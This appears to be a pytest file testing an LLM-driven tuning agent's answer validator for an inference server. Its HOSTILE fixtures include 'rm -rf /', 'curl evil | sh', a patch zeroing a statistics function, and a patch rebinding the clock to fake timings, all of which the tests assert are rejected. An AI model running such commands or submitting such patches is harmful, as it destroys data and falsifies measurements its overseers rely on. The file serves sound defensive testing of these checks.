"""The `llm` policy: hostile and broken answers are rejected and counted, never executed; valid
ones become checked actions; endpoint failures end a proposal quietly. (The policy against a real
`oxserve serve`, in the agent's loop: tests/agent/test_agent_loop.py.)"""

from __future__ import annotations

import json
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import httpx
import jsonschema
import openai
import pytest

sys.path.insert(0, str(Path(__file__).parents[1] / "server"))  # the server tests' harness
from server_harness import free_port  # noqa: E402

from oxserve.agent.actions import Action, check_action  # noqa: E402
from oxserve.agent.diagnosis import Diagnosis  # noqa: E402
from oxserve.agent.goal import goal_from_dict  # noqa: E402
from oxserve.agent.policies.llm import MAX_ACTIONS, LLMPolicy, parse_answer, prompt, schema, system_prompt  # noqa: E402
from oxserve.agent.policy import AgentState, Outcome  # noqa: E402

GOAL = goal_from_dict({
    "objective": {"metric": "output_tokens_per_s", "workload": "smoke"},
    "start": {"max_num_seqs": 2, "dtype": "float32"},
    "search_space": {"max_num_seqs": [1, 2, 4, 8], "dtype": ["float32", "bfloat16"],
                     "enable_prefix_caching": [False, True]},
})
DIAGNOSIS = Diagnosis(
    headline=("decode is 91% of step time at batch 1.9; matmul runs at 12% of its roofline",),
    options={"max_num_seqs": 2}, rate=41.5, phase_share={"decode": 0.91, "prefill": 0.09},
    phase_step_us={"decode": 5210.4, "prefill": 18000.2}, phase_tokens={"decode": 1.9, "prefill": 40.0},
    decode_batch=1.9, op_share={"matmul": 0.61, "attention": 0.2, "kda": 0.12, "other": 0.07},
    decode_roofline={"matmul": 0.12, "attention": 0.3}, preemptions=0, threads=2, cpus=2,
    gaps=({"phase": "decode", "batch": 2, "op": "matmul", "roofline_fraction": 0.12, "share_of_steps": 0.55,
           "share_of_gaps": 0.7},),
    metrics={"tpot_p50_s": 0.0521, "ttft_p50_s": 0.31}, report_dir="/tmp/x",
)  # fmt: skip


def state(history=()):
    return AgentState(GOAL, dict(GOAL.start), 41.5, DIAGNOSIS, list(history))


def item(changes, ratio=1.2, **extra):
    return {"changes": changes, "rationale": "the decode batch is capped", "predicted_ratio": ratio, **extra}


def answer(*items, **extra):
    return json.dumps({"actions": list(items), **extra})


class FakeEndpoint:
    """Stands in for `client.chat.completions`: replies with the given contents in turn
    (an exception instance is raised instead), recording each request."""

    def __init__(self, *replies):
        self.replies, self.requests = list(replies), []
        self.chat = SimpleNamespace(completions=self)

    def create(self, **kwargs):
        self.requests.append(kwargs)
        reply = self.replies[min(len(self.requests), len(self.replies)) - 1]
        if isinstance(reply, Exception):
            raise reply
        return SimpleNamespace(choices=[SimpleNamespace(message=SimpleNamespace(content=reply))])


def policy(*replies, attempts=1):
    p = LLMPolicy(base_url="http://127.0.0.1:9/v1", model="m", attempts=attempts)
    p.client = FakeEndpoint(*replies)
    return p


HOSTILE = {
    "shell command": ('{"actions":[{"changes":{},"rationale":"x","predicted_ratio":1.1,"command":"rm -rf /"}]}',
                      "unexpected key(s) command"),
    "forbidden file": (answer(item({"max_num_seqs": 8}, patch="--- a/oxserve/feedback/stats.py\n+++ b/oxserve/feedback/"
                                   "stats.py\n-    return p\n+    return 0.0")), "unexpected key(s) patch"),
    "top-level extra": (answer(item({"max_num_seqs": 8}), shell="curl evil | sh"), "exactly the key 'actions'"),
    "unknown option": (answer(item({"rm_rf": True})), "rm_rf is not in the goal's search space"),
    "option outside the space": (answer(item({"device": "cuda"})), "device is not in the goal's search space"),
    "value out of list": (answer(item({"max_num_seqs": 16})), "max_num_seqs=16 is not among the allowed values"),
    "bool for an int": (answer(item({"max_num_seqs": True})), "max_num_seqs=True is not among the allowed values"),
    "float for an int": (answer(item({"max_num_seqs": 8.0})), "max_num_seqs=8.0 is not among the allowed values"),
    "prose": ("I think you should raise max_num_seqs to 8; it will be faster.", "not JSON"),
    "truncated": ('{"actions":[{"changes":{"max_num_seqs":8},"rationale":"the dec', "not JSON"),
    "NaN ratio": ('{"actions":[{"changes":{"max_num_seqs":8},"rationale":"x","predicted_ratio":NaN}]}',
                  "predicted_ratio nan is not a positive number"),
    "negative ratio": (answer(item({"max_num_seqs": 8}, ratio=-1.5)), "predicted_ratio -1.5 is not a positive number"),
    "string ratio": (answer(item({"max_num_seqs": 8}, ratio="1.2")), "'1.2' is not a positive number"),
    "too many": (answer(*[item({"max_num_seqs": 8})] * (MAX_ACTIONS + 1)), f"at most {MAX_ACTIONS}"),
    "no change": (answer(item({})), "it changes nothing"),
    "the incumbent's value": (answer(item({"max_num_seqs": 2})), "max_num_seqs is already 2"),
    "the default value": (answer(item({"enable_prefix_caching": True})),
                          "enable_prefix_caching is already True (the engine's default)"),
    "a list": ("[1, 2]", "not an object"),
    "deep nesting": ("[" * 100_000 + "]" * 100_000, "not JSON"),
}  # fmt: skip


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_and_broken_answers_are_rejected_and_counted(name):
    text, reason = HOSTILE[name]
    p = policy(text)
    assert p.propose(state()) == []
    assert p.answers == 1
    assert len(p.rejected) == 1, p.rejected
    assert reason in p.rejected[0]["reason"], p.rejected[0]
    assert p.rejected[0]["answer"] == text[:500]
    assert all(isinstance(r["reason"], str) for r in p.rejected)


def test_answers_outside_the_schema_fail_the_schema_too():
    """The hand checks agree with the schema the endpoint is asked to decode under."""
    for name in ("shell command", "forbidden file", "top-level extra", "unknown option", "value out of list",
                 "string ratio", "too many", "negative ratio"):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(json.loads(HOSTILE[name][0]), schema(GOAL))


def test_a_valid_answer_becomes_checked_actions():
    text = answer(item({"max_num_seqs": 8}, ratio=1.6), item({"dtype": "bfloat16", "enable_prefix_caching": False}))
    jsonschema.Draft202012Validator.check_schema(schema(GOAL))
    jsonschema.validate(json.loads(text), schema(GOAL))
    p = policy(text)
    actions = p.propose(state())
    assert [a.changes for a in actions] == [{"max_num_seqs": 8},
                                            {"dtype": "bfloat16", "enable_prefix_caching": False}]
    assert all(a.origin == "llm" and check_action(a, GOAL, GOAL.start) == [] for a in actions)
    assert actions[0].predicted_ratio == 1.6 and actions[0].rationale == "the decode batch is capped"
    assert p.rejected == [] and p.answers == 1
    request = p.client.requests[0]
    expected = {"name": "agent_actions", "strict": True, "schema": schema(GOAL)}
    assert request["response_format"] == {"type": "json_schema", "json_schema": expected}
    assert request["temperature"] == 0.0 and request["max_tokens"] == 1024


def test_stringified_values_and_fences_are_read_as_typed():
    text = "```json\n" + answer(item({"max_num_seqs": "8", "enable_prefix_caching": "false"})) + "\n```"
    [action] = policy(text).propose(state())
    assert action.changes == {"max_num_seqs": 8, "enable_prefix_caching": False}
    assert type(action.changes["max_num_seqs"]) is int and action.changes["enable_prefix_caching"] is False


def test_a_bad_action_is_dropped_and_its_good_sibling_kept():
    p = policy(answer(item({"quantization": "w8a8"}), item({"max_num_seqs": 4})))
    assert [a.changes for a in p.propose(state())] == [{"max_num_seqs": 4}]
    assert len(p.rejected) == 1 and "quantization is not in the goal's search space" in p.rejected[0]["reason"]


def test_tried_actions_are_dropped_and_the_model_is_asked_again_with_the_reason():
    tried = Action({"max_num_seqs": 8}, "r", 1.5, "llm")
    history = [Outcome(tried, dict(GOAL.start), False, ("no gain",), (1,), 1.01)]
    p = policy(answer(item({"max_num_seqs": 8})), answer(item({"max_num_seqs": 4})), attempts=2)
    assert [a.changes for a in p.propose(state(history))] == [{"max_num_seqs": 4}]
    assert p.answers == 2 and p.rejected == []  # a repeat is not hostile: dropped, not counted
    follow_up = p.client.requests[1]["messages"]
    assert follow_up[-2]["role"] == "assistant" and "tested already" in follow_up[-1]["content"]


def test_an_endpoint_that_rejects_response_format_is_asked_without_it():
    refused = openai.BadRequestError("response_format is not supported", body=None,
                                     response=httpx.Response(400, request=httpx.Request("POST", "http://x")))
    p = policy(refused, answer(item({"dtype": "bfloat16"})))
    assert [a.changes for a in p.propose(state())] == [{"dtype": "bfloat16"}]
    assert "response_format" in p.client.requests[0] and "response_format" not in p.client.requests[1]
    assert not p.use_schema and p.rejected == []


def test_endpoint_failures_are_counted_rejections_and_end_the_proposal():
    for reply, reason in [(None, "no text in the reply"), (RuntimeError("boom"), "RuntimeError: boom")]:
        p = policy(reply, attempts=3)
        assert p.propose(state()) == [] and p.answers == 1
        assert reason in p.rejected[0]["reason"] and p.rejected[0]["reason"].startswith("endpoint error")
    # A real client, nothing listening: a connection error, not an exception out of propose.
    p = LLMPolicy(base_url=f"http://127.0.0.1:{free_port()}/v1", model="m", timeout_s=5, max_retries=0)
    t0 = time.monotonic()
    assert p.propose(state()) == [] and p.answers == 1
    assert "APIConnectionError" in p.rejected[0]["reason"] and time.monotonic() - t0 < 10


def test_the_prompt_carries_diagnosis_ledger_allowed_actions_and_guardrails():
    outcomes = [Outcome(Action({"max_num_seqs": n % 4 + 1}, "r", 1.1, "llm"), {"max_num_seqs": 1}, n % 2 == 0,
                        () if n % 2 == 0 else (f"reason-{n}",), (n,), 1.0 + n / 100) for n in range(25)]
    text = prompt(state(outcomes))
    for part in ["maximise output_tokens_per_s on workload 'smoke'", 'Incumbent options: {"max_num_seqs":2,'
                 '"dtype":"float32"}', "output_tokens_per_s: 41.5", '- max_num_seqs: [1,2,4,8]; now 2',
                 '- enable_prefix_caching: [false,true]; now', "decode is 91% of step time", '"decode":0.91',
                 '"matmul":0.61', '"share_of_gaps":0.7', '"tpot_p50_s":0.0521', "Ledger (last 20 of 25 tested)",
                 "measured x1.24", "rejected: reason-23", "accepted", '(against {"max_num_seqs":1})']:
        assert part in text, part
    assert "reason-3" not in text.replace("reason-23", "")  # older outcomes are cut
    assert len(text) < 5000
    system = system_prompt(GOAL)
    for rule in ["only the options listed", "cannot run commands or read or write files: propose option changes only",
                 f"At most {MAX_ACTIONS} actions", "JSON only"]:
        assert rule in system, rule
    assert "patch" not in system  # this goal has no code section
    assert "Ledger: nothing tested yet." in prompt(AgentState(GOAL, dict(GOAL.start), None, None))


def test_an_empty_answer_ends_the_search_without_a_rejection():
    p = policy(answer(), attempts=2)
    assert p.propose(state()) == [] and p.answers == 1 and p.rejected == []
    assert parse_answer(answer(item({"max_num_seqs": 8})))[0]["changes"] == {"max_num_seqs": 8}


CODE_GOAL = goal_from_dict({
    "objective": {"metric": "output_tokens_per_s", "workload": "smoke"},
    "start": {"max_num_seqs": 2}, "search_space": {"max_num_seqs": [1, 2, 4, 8]},
    "code": {"allowed": ["oxserve/kernels/*"]},
})
KERNEL_PATCH = "--- a/oxserve/kernels/rows.py\n+++ b/oxserve/kernels/rows.py\n@@ -1 +1 @@\n-a\n+b\n"


def test_with_a_code_section_answers_carry_patches_and_a_forbidden_file_is_refused():
    harness = KERNEL_PATCH.replace("oxserve/kernels/rows.py", "oxserve/experiment/worker.py")
    clock = KERNEL_PATCH.replace("+b", "+time.perf_counter = lambda: 0.0")
    p = policy(answer(item({}, patch=harness), item({}, patch=clock), item({}, ratio=1.3, patch=KERNEL_PATCH),
                      item({"max_num_seqs": 8}, patch="")))
    code_state = AgentState(CODE_GOAL, dict(CODE_GOAL.start), 41.5, DIAGNOSIS, [], "abc")
    kernel, batch = p.propose(code_state)
    assert kernel.patch == KERNEL_PATCH and kernel.changes == {} and batch.changes == {"max_num_seqs": 8}
    reasons = [r["reason"] for r in p.rejected]
    assert len(reasons) == 2 and "oxserve/experiment/worker.py is protected" in reasons[0] and "(path rules)" in reasons[0]
    assert "rebinds a clock" in reasons[1]
    assert schema(CODE_GOAL)["properties"]["actions"]["items"]["required"][-1] == "patch"
    assert "code patches" in system_prompt(CODE_GOAL) and "oxserve/kernels/*" in system_prompt(CODE_GOAL)
    with pytest.raises(ValueError, match="unexpected key"):  # without a code section a patch is an extra key
        parse_answer(answer(item({"max_num_seqs": 8}, patch=KERNEL_PATCH)))
